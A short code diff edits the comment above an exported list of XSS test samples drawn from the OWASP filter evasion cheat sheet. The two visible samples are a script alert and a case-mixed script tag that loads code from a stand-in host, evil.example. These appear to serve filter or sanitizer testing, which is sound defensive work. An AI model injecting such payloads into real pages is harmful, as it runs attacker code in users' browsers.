@@ -1,7 +1,4 @@
-/**
- * Own samples, one per technique, after the OWASP filter evasion cheat sheet and the HTML5 Security Cheatsheet; used
- * where the public collection is absent.
- */
+/** Own samples, one per technique, after the OWASP filter evasion cheat sheet and the HTML5 Security Cheatsheet. */
 export const XSS_SAMPLES: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
